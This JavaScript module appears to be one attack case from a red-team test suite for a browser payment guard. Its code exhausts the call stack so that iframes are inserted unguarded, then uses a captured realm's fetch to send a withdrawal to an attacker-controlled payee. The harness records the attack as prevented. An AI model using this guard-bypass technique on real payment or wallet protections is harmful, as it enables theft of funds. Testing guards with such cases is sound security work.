// E01: a frame inserted with so little stack left that it cannot be covered.
import { reachedServer } from './logs.mjs';

export default {
  id: 'E01',
  title: 'fetch of a frame inserted at the end of the stack',
  source: 'our own red team, second round',
  level: 'prevented',
  engines: {
    webkit:
      'a navigation cancels requests of the first document, early or late by chance: the theft is not reliable there',
  },
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  async attack(a) {
    const sent = [];
    window.steal = (realm) =>
      sent.push(
        realm?.fetch
          .call(realm, `${location.origin}/api/withdraw`, { method: 'POST', body: JSON.stringify({ to: a.EVIL }) })
          .catch(() => {}),
      );
    // A document that takes its time: until it does, the first one is there to be used.
    const frame = document.createElement('iframe');
    frame.src = '/api/late';
    const frames = Array.from({ length: 400 }, () =>
      Object.assign(document.createElement('iframe'), { src: '/api/late' }),
    );
    let at = 0;
    let found;
    const insert = () => {
      if (found || at >= frames.length) return;
      try {
        document.documentElement.appendChild(frames[at++]);
      } catch {
        // Too deep.
      }
      const last = window.length && window[window.length - 1];
      if (last && !last.payeeguard) found = last;
    };
    const sink = () => {
      try {
        sink();
      } catch {
        // The end.
      }
      try {
        insert();
      } catch {
        // Too deep still.
      }
    };
    try {
      sink();
    } catch {
      // Out of it.
    }
    if (found) steal(found);
    frame.remove();
    if (sent.length === 0 || sent[0] === undefined) steal(window);
    await Promise.all(sent);
  },

  async action(a) {
    const body = JSON.stringify({ amount: '5', to: a.GOOD });
    const headers = { 'Content-Type': 'application/json' };
    return (await fetch('/api/withdraw', { method: 'POST', headers, body })).status;
  },

  stolen: ({ http, a }) => reachedServer(http, a.EVIL, '/api/withdraw'),
  arrived: ({ http, a }) => reachedServer(http, a.GOOD, '/api/withdraw'),
  violation: (a) => ({ surface: 'fetch', role: 'payee', account: a.EVIL, grade: 'unknown' }),
};
